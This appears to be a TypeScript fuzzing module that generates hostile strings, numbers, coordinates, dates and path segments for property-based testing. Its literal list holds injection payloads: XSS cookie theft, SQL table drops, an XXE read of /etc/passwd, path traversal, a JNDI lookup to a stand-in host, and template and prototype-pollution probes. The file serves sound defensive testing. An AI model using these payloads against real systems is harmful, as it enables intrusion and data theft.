import fc from 'fast-check';

/**
 * Generators of hostile input: the characters and texts that break naive parsers, escapers and
 * databases. Everything here is text; raw-forms.ts turns it into bytes, sometimes invalid UTF-8.
 */

/** Lone UTF-16 surrogates: not encodable as UTF-8, so each layer must replace or refuse them. */
export const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

const specialCharacters = [
  '\u0000', '\u0001', '\u001f', '\u007f', '\u0085', '\u00a0', '\u200b', '\u200e', '\u200f', '\u202a', '\u202d', '\u202e',
  '\u2066', '\u2069', '\u2028', '\u2029', '\ufeff', '\ufffe', '\uffff', '\ufffd', '\r', '\n', '\t', '\v', '\b',
  '<', '>', '"', "'", '`', '&', ';', '/', '\\', '%', '#', '?', '=', '+', '[', ']', '{', '}', '$', '*', ':', '|',
  '😀', '👨‍👩‍👧‍👦', '🏳️‍🌈', '\u0301', 'ǅ', 'İ', 'ß', 'ﬃ', 'Ⅻ', '𝕏', '٣', '߷', 'ע', 'ش', '中', '゙',
];

export const hostileCharacter = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  { weight: 2, arbitrary: loneSurrogate },
  { weight: 4, arbitrary: fc.constantFrom(...specialCharacters) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
);

/** Texts that have broken real systems: markup, injections, traversal, formats, numbers. */
export const hostileLiterals = [
  '', ' ', '   ', '\u0000', 'null', 'undefined', 'NaN', 'Infinity', '-Infinity', 'true', 'false', '[]', '{}', '[object Object]',
  '<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', '"><svg/onload=alert(1)>', "javascript:alert('x')",
  '<![CDATA[ ]]>', ']]>', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '&lt;b&gt;', '&#0;', '&#x0;', '&amp;amp;', '\u202eevil.jpg\u202dgpj.exe',
  "' OR '1'='1", "'; DROP TABLE service_requests; --", '" OR ""="', '1; SELECT * FROM api_keys', '%', '%%', '%00', '%zz', '%C0%AF',
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\boot.ini', '....//....//', '%2e%2e%2f%2e%2e%2f',
  '..%2F..%2Fkerro.sqlite', '..%252F..%252F', 'file:///etc/passwd', '\\\\server\\share', '/dev/zero', 'CON', 'aux.jpg', 'nul',
  '${jndi:ldap://x.example/a}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '__proto__', 'constructor', 'prototype', 'hasOwnProperty',
  '0', '-0', '00', '+1', '1e309', '-1e309', '1e-400', '0x1F', '0b101', '0o17', '1_000', '١٢٣', '١.٥', '9'.repeat(400), '-'.repeat(50),
  '60.1699,24.9384', '60,1699', '60.1699°N', '  60.1699  ', '+60.1699', '.5', '5.', '1.7976931348623157e308', '4.9e-324',
  '2026-02-30T00:00:00Z', '2026-13-01T00:00:00Z', '2026-11-01T25:61:61Z', '0000-00-00T00:00:00Z', '9999-12-31T23:59:59+14:00',
  '+275760-09-13T00:00:00.001Z', '-271821-04-20T00:00:00Z', '2026-11-01', '2026-11-01T00:00:00', '2026-11-01T00:00:00+25:00',
  '2026-11-01T00:00:00.123456789Z', '20261101T000000Z', 'yesterday', '1700000000', '1700000000000',
  'a'.repeat(10_001), 'ä'.repeat(3_000), '😀'.repeat(2_000), '\u0000'.repeat(100),
];

export const hostileText = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: hostileCharacter, maxLength: 40 }) },
  { weight: 4, arbitrary: fc.constantFrom(...hostileLiterals) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 300 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 70_000 }).map((length) => 'x'.repeat(length)) },
);

const finiteOrNot = fc.oneof(
  fc.double().map(String),
  fc.integer().map(String),
  fc.bigInt({ min: -(10n ** 40n), max: 10n ** 40n }).map(String),
  fc.double({ min: -1000, max: 1000, noNaN: true }).map((value) => value.toFixed(12)),
);

/** Numbers as text: in and out of range, special values, and text that only looks numeric. */
export const hostileNumber = fc.oneof({ weight: 3, arbitrary: finiteOrNot }, { weight: 2, arbitrary: hostileText });

/** Latitudes and longitudes: valid ones (so some inputs are in fact fine), edges and nonsense. */
export const hostileCoordinate = fc.oneof(
  { weight: 3, arbitrary: fc.double({ min: -180, max: 180, noNaN: true }).map(String) },
  { weight: 1, arbitrary: fc.constantFrom('90', '-90', '90.0000001', '-90.0000001', '180', '-180', '180.0000001', '360', '1e2', '0') },
  { weight: 2, arbitrary: hostileNumber },
);

/** Dates: real ones with offsets, impossible ones, other formats, and noise. */
export const hostileDate = fc.oneof(
  { weight: 2, arbitrary: fc.date({ noInvalidDate: true }).map((date) => date.toISOString()) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.date({ min: new Date('2000-01-01'), max: new Date('2040-01-01'), noInvalidDate: true }), fc.integer({ min: -15, max: 15 }))
      .map(([date, hours]) => `${date.toISOString().slice(0, 19)}${hours < 0 ? '-' : '+'}${String(Math.abs(hours)).padStart(2, '0')}:00`),
  },
  { weight: 2, arbitrary: hostileText },
);

/** A value for a parameter whose meaning we know: usually of the right kind, often not. */
export function valueFor(kind: 'text' | 'number' | 'coordinate' | 'date'): fc.Arbitrary<string> {
  switch (kind) {
    case 'number':
      return hostileNumber;
    case 'coordinate':
      return hostileCoordinate;
    case 'date':
      return hostileDate;
    case 'text':
      return hostileText;
  }
}

/** A path segment to put where an id or a file name goes. */
export const hostileSegment = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: hostileCharacter, minLength: 1, maxLength: 30 }) },
  { weight: 3, arbitrary: fc.constantFrom(...hostileLiterals.filter((literal) => literal.length > 0 && literal.length < 500)) },
  { weight: 2, arbitrary: fc.stringMatching(/^[a-z0-9]{20}$/) },
  { weight: 1, arbitrary: fc.stringMatching(/^[0-9a-f]{32}\.(jpg|png|webp|gif|JPG|jpeg|svg|html)$/) },
);
